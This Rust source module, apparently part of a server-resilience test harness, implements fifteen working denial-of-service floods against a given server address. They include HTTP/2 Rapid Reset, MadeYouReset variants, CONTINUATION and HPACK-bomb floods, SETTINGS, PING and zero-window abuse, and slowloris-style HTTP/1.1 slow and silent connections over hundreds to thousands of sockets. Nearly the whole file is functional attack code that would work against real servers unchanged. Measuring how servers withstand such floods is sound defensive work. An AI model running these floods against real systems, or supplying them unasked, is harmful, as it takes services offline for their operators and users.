//! The attackers.

use std::net::SocketAddr;
use std::str::FromStr;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::net::tcp::{OwnedReadHalf, OwnedWriteHalf};
use tokio::task::JoinSet;
use tokio::time::Instant;

use super::Attacked;
use super::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, NEWEST, PING, PREFACE, RST_STREAM, SETTINGS,
    WINDOW_UPDATE, frame, head, indexed,
};
use crate::Result;
use crate::role::{runtime, say};

/// A flood.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Flood {
    /// HEADERS and RST_STREAM (CVE-2023-44487).
    RapidReset,
    /// The same, where the reset comes a little later: the application has seen the call.
    RapidResetLater,
    /// HEADERS and what makes the server reset the stream (CVE-2025-8671): an increment of 0; 10,000 a second.
    MadeYouReset,
    /// The same by a window that overflows.
    MadeYouResetByOverflow,
    /// The same by DATA after the end of the stream.
    MadeYouResetByData,
    /// A head that never ends (CVE-2024-27316).
    Continuation,
    /// Heads that say the largest entry of the dynamic table over and over.
    HpackBomb,
    /// DATA frames without data.
    EmptyData,
    /// DATA frames of a byte, to handlers that do not read.
    TinyData,
    Settings,
    Ping,
    /// Answers that are asked for and cannot be sent.
    ZeroWindow,
    /// HTTP/1.1 heads that come byte by byte.
    SlowHeads,
    /// HTTP/1.1 bodies that come byte by byte.
    SlowBodies,
    /// Connections that say nothing.
    Silent,
}

/// What the tasks of an attacker count.
#[derive(Debug, Default)]
struct Counters {
    units: AtomicU64,
    connections: AtomicU64,
}

// === impl Flood ===

impl Flood {
    pub(crate) const ALL: [Self; 15] = [
        Self::RapidReset,
        Self::RapidResetLater,
        Self::MadeYouReset,
        Self::MadeYouResetByOverflow,
        Self::MadeYouResetByData,
        Self::Continuation,
        Self::HpackBomb,
        Self::EmptyData,
        Self::TinyData,
        Self::Settings,
        Self::Ping,
        Self::ZeroWindow,
        Self::SlowHeads,
        Self::SlowBodies,
        Self::Silent,
    ];

    pub(crate) fn key(self) -> &'static str {
        match self {
            Self::RapidReset => "rapid-reset",
            Self::RapidResetLater => "rapid-reset-later",
            Self::MadeYouReset => "made-you-reset",
            Self::MadeYouResetByOverflow => "made-you-reset-overflow",
            Self::MadeYouResetByData => "made-you-reset-data",
            Self::Continuation => "continuation",
            Self::HpackBomb => "hpack-bomb",
            Self::EmptyData => "empty-data",
            Self::TinyData => "tiny-data",
            Self::Settings => "settings",
            Self::Ping => "ping",
            Self::ZeroWindow => "zero-window",
            Self::SlowHeads => "slow-heads",
            Self::SlowBodies => "slow-bodies",
            Self::Silent => "silent",
        }
    }

    /// Whether the good client makes a connection for each call: connections are what this flood is of.
    pub(super) fn good_connects(self) -> bool {
        matches!(self, Self::SlowHeads | Self::SlowBodies | Self::Silent)
    }

    /// Whether it is one of calls that end as soon as they have begun: these cost work that nobody waits for.
    pub(super) fn resets(self) -> bool {
        matches!(self, Self::RapidReset | Self::RapidResetLater) || self.rate().is_some()
    }

    fn connections(self) -> usize {
        match self {
            Self::SlowHeads | Self::SlowBodies => 500,
            Self::Silent => 2_000,
            _ => 4,
        }
    }

    /// Units that a connection may send in a second.
    fn rate(self) -> Option<u64> {
        match self {
            Self::MadeYouReset | Self::MadeYouResetByOverflow | Self::MadeYouResetByData => Some(2_500),
            _ => None,
        }
    }

    /// What is said first.
    fn opening(self) -> Vec<u8> {
        match self {
            Self::SlowHeads => b"GET / HTTP/1.1\r\nhost: flood.test\r\nx-slow: ".to_vec(),
            Self::SlowBodies => {
                b"POST /read HTTP/1.1\r\nhost: flood.test\r\ncontent-length: 1000000\r\n\r\n".to_vec()
            }
            Self::Silent => Vec::new(),
            _ => {
                let mut out = PREFACE.to_vec();
                // INITIAL_WINDOW_SIZE is setting 4.
                let window: &[u8] = if self == Self::ZeroWindow { &[0, 4, 0, 0, 0, 0] } else { &[] };
                frame(&mut out, SETTINGS, 0, 0, window);
                let block = head(true, "/ignore");
                match self {
                    Self::Continuation => frame(&mut out, HEADERS, 0, 1, &block),
                    Self::EmptyData => frame(&mut out, HEADERS, END_HEADERS, 1, &block),
                    Self::TinyData => {
                        for stream in 0..TINY_STREAMS {
                            frame(&mut out, HEADERS, END_HEADERS, 2 * stream + 1, &block);
                        }
                    }
                    Self::HpackBomb => {
                        let block = [head(false, "/"), indexed(HPACK_ENTRY)].concat();
                        frame(&mut out, HEADERS, END_HEADERS | END_STREAM, 1, &block);
                    }
                    _ => {}
                }
                out
            }
        }
    }

    /// The `n`th unit on a connection.
    fn unit(self, n: u64, out: &mut Vec<u8>) {
        let stream = u32::try_from(2 * n + 1).unwrap_or(u32::MAX) & 0x7fff_ffff;
        let (get, post) = (head(false, "/"), head(true, "/ignore"));
        match self {
            Self::RapidReset => {
                frame(out, HEADERS, END_HEADERS | END_STREAM, stream, &get);
                frame(out, RST_STREAM, 0, stream, &8_u32.to_be_bytes());
            }
            Self::RapidResetLater => {
                frame(out, HEADERS, END_HEADERS, stream, &post);
                if n >= LATER {
                    let earlier = stream - 2 * u32::try_from(LATER).unwrap_or(0);
                    frame(out, RST_STREAM, 0, earlier, &8_u32.to_be_bytes());
                }
            }
            Self::MadeYouReset => {
                frame(out, HEADERS, END_HEADERS, stream, &post);
                frame(out, WINDOW_UPDATE, 0, stream, &[0; 4]);
            }
            Self::MadeYouResetByOverflow => {
                frame(out, HEADERS, END_HEADERS, stream, &post);
                frame(out, WINDOW_UPDATE, 0, stream, &0x7fff_ffff_u32.to_be_bytes());
            }
            Self::MadeYouResetByData => {
                frame(out, HEADERS, END_HEADERS | END_STREAM, stream, &post);
                frame(out, DATA, 0, stream, b"x");
            }
            Self::Continuation => {
                let mut block = Vec::new();
                for _ in 0..32 {
                    block.extend_from_slice(&[0x00, 1, b'z', 1, b'z']);
                }
                frame(out, CONTINUATION, 0, 1, &block);
            }
            Self::HpackBomb => {
                let mut block = get;
                block.extend(std::iter::repeat_n(NEWEST, 16_000));
                frame(out, HEADERS, END_HEADERS | END_STREAM, stream + 2, &block);
            }
            Self::EmptyData => frame(out, DATA, 0, 1, &[]),
            Self::TinyData => {
                let of = u32::try_from(n % u64::from(TINY_STREAMS)).unwrap_or(0);
                frame(out, DATA, 0, 2 * of + 1, b"x");
            }
            // HEADER_TABLE_SIZE, which the peer has to take over each time.
            Self::Settings => frame(out, SETTINGS, 0, 0, &[0, 1, 0, 0, 16, 0]),
            Self::Ping => frame(out, PING, 0, 0, &[7; 8]),
            Self::ZeroWindow => frame(out, HEADERS, END_HEADERS | END_STREAM, stream, &head(false, "/big")),
            Self::SlowHeads | Self::SlowBodies => out.push(b'x'),
            Self::Silent => {}
        }
    }
}

impl FromStr for Flood {
    type Err = String;

    fn from_str(text: &str) -> Result<Self, String> {
        Self::ALL.into_iter().find(|flood| flood.key() == text).ok_or_else(|| format!("no flood `{text}`"))
    }
}

/// The role: floods a server, and says how much.
pub(crate) fn role(flood: Flood, server: SocketAddr, seconds: u64) -> Result<()> {
    let counters = Arc::new(Counters::default());
    runtime()?.block_on(async {
        let until = Instant::now() + Duration::from_secs(seconds);
        let mut attackers = JoinSet::new();
        for _ in 0..flood.connections() {
            let counters = Arc::clone(&counters);
            attackers.spawn(async move {
                while Instant::now() < until {
                    let ended = tokio::time::timeout_at(until, attack(flood, server, &counters)).await;
                    // The server ended the connection, as it may; there is another one to be had.
                    if matches!(ended, Ok(Err(_))) {
                        tokio::task::yield_now().await;
                    }
                }
            });
        }
        while attackers.join_next().await.is_some() {}
    });
    say(&Attacked {
        units: counters.units.load(Ordering::Relaxed),
        connections: counters.connections.load(Ordering::Relaxed),
    })
}

/// Floods over one connection until it ends.
async fn attack(flood: Flood, server: SocketAddr, counters: &Counters) -> std::io::Result<()> {
    let socket = TcpStream::connect(server).await?;
    socket.set_nodelay(true)?;
    counters.connections.fetch_add(1, Ordering::Relaxed);
    let (read, write) = socket.into_split();
    // Either of them ends with an error.
    tokio::try_join!(listen(read), send(flood, write, counters))?;
    Ok(())
}

/// Reads and forgets what the server says.
async fn listen(mut read: OwnedReadHalf) -> std::io::Result<()> {
    let mut buffer = vec![0; 64 << 10];
    while read.read(&mut buffer).await? > 0 {}
    Err(std::io::ErrorKind::UnexpectedEof.into())
}

async fn send(flood: Flood, mut write: OwnedWriteHalf, counters: &Counters) -> std::io::Result<()> {
    write.write_all(&flood.opening()).await?;
    let (mut n, begin) = (0, Instant::now());
    loop {
        let mut out = Vec::new();
        let batch = batch(flood, n, begin);
        for _ in 0..batch {
            flood.unit(n, &mut out);
            n += 1;
        }
        write.write_all(&out).await?;
        counters.units.fetch_add(batch, Ordering::Relaxed);
        match flood {
            Flood::Silent => std::future::pending::<()>().await,
            Flood::ZeroWindow if n >= 1_000 => std::future::pending::<()>().await,
            Flood::SlowHeads | Flood::SlowBodies => tokio::time::sleep(Duration::from_millis(100)).await,
            _ if batch == 0 => tokio::time::sleep(Duration::from_millis(1)).await,
            _ => {}
        }
    }
}

/// How many units are due.
fn batch(flood: Flood, sent: u64, begin: Instant) -> u64 {
    match (flood, flood.rate()) {
        (Flood::Silent | Flood::SlowHeads | Flood::SlowBodies, _) => 1,
        (_, Some(rate)) => {
            let due = begin.elapsed().as_micros() as u64 * rate / 1_000_000;
            due.saturating_sub(sent).min(64)
        }
        _ => 64,
    }
}

/// How many streams later a call is reset: in the next write.
const LATER: u64 = 64;
/// Streams over which the DATA of a byte is spread.
const TINY_STREAMS: u32 = 100;
/// As much as fits into a dynamic table of 4 KiB.
const HPACK_ENTRY: usize = 4_000;
